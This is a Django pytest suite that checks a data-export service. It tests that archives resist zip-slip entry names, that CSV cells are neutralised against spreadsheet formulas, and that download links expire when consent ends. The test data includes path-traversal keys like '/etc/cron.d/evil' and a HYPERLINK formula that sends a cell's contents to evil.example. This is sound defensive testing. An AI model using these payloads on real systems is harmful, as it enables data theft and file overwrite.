"""What a hostile legacy value or an ended consent must not do to an archive: name a file outside
it (zip slip), run as a spreadsheet formula, or keep being downloadable."""

from __future__ import annotations

import hashlib
from datetime import timedelta
from urllib.parse import urlparse

import pytest
from django.core.files.base import ContentFile
from django.test import Client
from django.utils import timezone

from restitution import consent, exports
from restitution.catalogue import BY_SLUG
from restitution.models import Dataset, Document, ExportJob, Grant
from restitution.validation import record_validator
from tests.api.test_records_api import _contract, write
from tests.exports.archive_reader import csv_rows, ndjson_items, open_checked
from tests.exports.test_dashboard import browser_for
from tests.exports.test_export_api import api, ask, build_now
from tests.personas import CONTRACTS, CURVE

pytestmark = pytest.mark.django_db(transaction=True)

INVOICES = "telco-invoices"
HOSTILE_KEYS = ["../../../../x", "/etc/cron.d/evil", "C:\\Windows\\evil", "..", "a\x01b\rc"]
PDF = b"%PDF-1.4\n% an invoice\n"


def _invoice(invoice_id: str) -> dict:
    digest = hashlib.sha256(PDF).hexdigest()
    return {"invoice_id": invoice_id, "issued_on": "2025-01-31", "period_start": "2025-01-01",
            "period_end": "2025-01-31", "amount_incl_tax": 19.99, "currency": "EUR", "status": "paid",
            "document": {"filename": f"{invoice_id}.pdf", "content_type": "application/pdf", "size": len(PDF),
                         "sha256": digest}}


def _alice_has_invoices_with_hostile_keys(customer) -> None:
    """Records stored before the catalogue refused such keys (or by a looser custom schema)."""
    keys = [*HOSTILE_KEYS, "FAC-202501-0000001"]
    write(customer, INVOICES, [_invoice(key) for key in keys])
    dataset = Dataset.objects.get(slug=INVOICES)
    for key in keys:
        document = Document(customer=customer, dataset=dataset, record_key=key, filename=f"{key}.pdf",
                            content_type="application/pdf", size=len(PDF), sha256=hashlib.sha256(PDF).hexdigest())
        document.file.save("invoice.pdf", ContentFile(PDF), save=True)


def _download_all(customer) -> tuple:
    browser = browser_for(customer)
    browser.post("/account/download/")
    exports.execute_export(job_id=ExportJob.objects.get(customer=customer, for_customer=True).pk)
    url = browser.get("/account/download/status/").json()["url"]
    return open_checked(b"".join(Client().get(url).streaming_content))


def _is_safe_entry(name: str) -> bool:
    return (not name.startswith(("/", "\\")) and ".." not in name and "\\" not in name and ":" not in name
            and all(ord(c) >= 32 for c in name) and all(part for part in name.split("/")))


def test_a_legacy_key_cannot_place_a_document_outside_the_archive(data):
    _alice_has_invoices_with_hostile_keys(data.alice)
    archive, manifest = _download_all(data.alice)
    names = archive.namelist()
    assert all(_is_safe_entry(name) for name in names), [n for n in names if not _is_safe_entry(n)]
    documents = [f for f in manifest["files"] if f["kind"] == "document"]
    assert len(documents) == len(HOSTILE_KEYS) + 1
    assert all(f["path"].count("/") == 3 for f in documents)  # documents/<dataset>/<key>/<file>
    assert len({f["path"] for f in documents}) == len(documents)  # still one entry per document
    assert {f["record_key"] for f in documents} == {*HOSTILE_KEYS, "FAC-202501-0000001"}  # raw, in JSON
    # A plain key keeps its readable name.
    assert f"documents/{INVOICES}/FAC-202501-0000001/FAC-202501-0000001.pdf" in names


def test_a_sanitised_entry_name_is_stable_and_keeps_values_apart():
    assert exports.entry_part("../../x") == exports.entry_part("../../x")
    assert exports.entry_part("a/b") != exports.entry_part("a_b") != exports.entry_part("a\\b")
    assert exports.entry_part("..") not in ("", ".", "..")
    assert exports.entry_part("evil/../x.pdf", keep_extension=True).endswith(".pdf")


@pytest.mark.parametrize("key", HOSTILE_KEYS + ["A..B", "x" * 101, "A1\n", "with space"])
def test_the_catalogue_refuses_a_key_that_cannot_be_one_so_the_row_is_quarantined(key):
    check = record_validator(BY_SLUG[INVOICES].schema)
    assert check(_invoice("FAC-202501-0000001")) is None
    reason = check(_invoice(key))
    assert reason is not None and reason.startswith("invoice_id")


FORMULAS = ["=HYPERLINK(\"https://evil.example/?\"&A1,\"click\")", "+1+2", "-2+3", "@SUM(1)", "\tx", "\rx"]


def test_archive_csv_cells_never_start_a_formula_and_ndjson_keeps_the_exact_text(data):
    write(data.alice, CONTRACTS, [{**_contract(f"F{i}"), "product": text, "insured_object": text,
                                   "deductible": -150.0} for i, text in enumerate(FORMULAS)])
    archive, _ = _download_all(data.alice)
    rows = {row["key"]: row for row in csv_rows(archive, CONTRACTS)}
    for i, text in enumerate(FORMULAS):
        assert rows[f"F{i}"]["product"] == "'" + text
        assert rows[f"F{i}"]["insured_object"] == "'" + text
        assert rows[f"F{i}"]["deductible"] == "-150.0"  # a negative number stays a number
    items = {item["key"]: item for item in ndjson_items(archive, CONTRACTS)}
    assert [items[f"F{i}"]["data"]["product"] for i in range(len(FORMULAS))] == FORMULAS


def test_the_archive_readme_explains_the_quote_before_formulas(data):
    archive, _ = _download_all(data.alice)
    readme = archive.read("README.txt").decode()
    assert "apostrophe" in readme and "single quote" in readme


def _client_archive_link(flow) -> tuple[str, str]:
    token = flow.tokens()["access_token"]
    asked = ask(flow, token)
    build_now(asked["Content-Location"])
    done = api(flow, "get", asked["Content-Location"], token)
    assert done.status_code == 200, done.content
    link = done.json()["archive"]["url"]
    assert Client().get(link).status_code == 200
    return token, link


def _path(link: str) -> str:
    parsed = urlparse(link)
    return f"{parsed.path}?{parsed.query}"


def test_an_archive_link_dies_when_the_customer_revokes_the_consent(data, flow):
    _, link = _client_archive_link(flow)
    consent.revoke_grant(grant=Grant.objects.get(customer=data.alice))
    response = Client().get(_path(link))
    assert response.status_code == 410
    assert response["Content-Type"] == "application/problem+json"
    assert response.json()["code"] == "consent_ended"


def test_an_archive_link_dies_when_the_consent_is_replaced(data, flow):
    _, link = _client_archive_link(flow)
    flow.tokens(datasets=[CURVE])  # a new consent with the same client replaces the old one
    assert Client().get(_path(link)).status_code == 410


def test_an_archive_link_dies_when_the_consent_expires(data, flow):
    _, link = _client_archive_link(flow)
    Grant.objects.filter(customer=data.alice).update(expires_at=timezone.now() - timedelta(seconds=1))
    assert Client().get(_path(link)).status_code == 410


def test_the_customers_own_archive_does_not_depend_on_any_consent(data, flow):
    flow.tokens()
    browser = browser_for(data.alice)
    browser.post("/account/download/")
    exports.execute_export(job_id=ExportJob.objects.get(for_customer=True).pk)
    url = browser.get("/account/download/status/").json()["url"]
    consent.revoke_grant(grant=Grant.objects.get(customer=data.alice))
    assert Client().get(url).status_code == 200
